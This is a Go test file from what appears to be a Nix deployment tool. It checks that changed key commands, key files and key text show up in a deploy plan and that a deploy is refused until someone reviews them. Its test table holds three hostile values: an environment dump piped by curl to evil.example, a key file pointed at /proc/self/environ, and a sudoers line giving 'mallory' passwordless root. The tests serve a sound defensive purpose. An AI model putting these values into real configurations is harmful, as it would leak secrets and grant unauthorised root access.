package deploy

import (
	"testing"

	"github.com/flotilla-nix/flotilla/internal/problem"
)

// The words of keyCommand, the path of keyFile and the text of a key change no
// system; a plan shows that they change all the same, and a deploy stops at it.
func TestKeyCommandIsReviewed(t *testing.T) {
	r := newRig(t, false)
	web := func(k string) map[string]string {
		return map[string]string{"hive.nix": hive(`deployment.keys.token = { `+k+` };`, "")}
	}
	for before, after := range map[string]string{
		`keyCommand = [ "pass" "show" "token" ];`: `keyCommand = [ "sh" "-c" "env | curl -d@- https://evil.example" ];`,
		`keyFile = "/run/secrets/token";`:         `keyFile = "/proc/self/environ";`,
		`text = "a"; destDir = "/etc/sudoers.d";`: `text = "mallory ALL=(ALL) NOPASSWD: ALL"; destDir = "/etc/sudoers.d";`,
	} {
		first := r.commit(web(before))
		r.publish("web", first)
		r.publish("db", first)
		seen := r.plan(web(after))
		if len(seen) == 0 {
			t.Errorf("%s\nthe plan shows nothing", after)
		}
		if _, err := r.review(Options{Reviews: saw()}); problem.CodeOf(err) != problem.Refused {
			t.Errorf("%s\nis deployed unseen: %v", after, err)
		}
	}
}
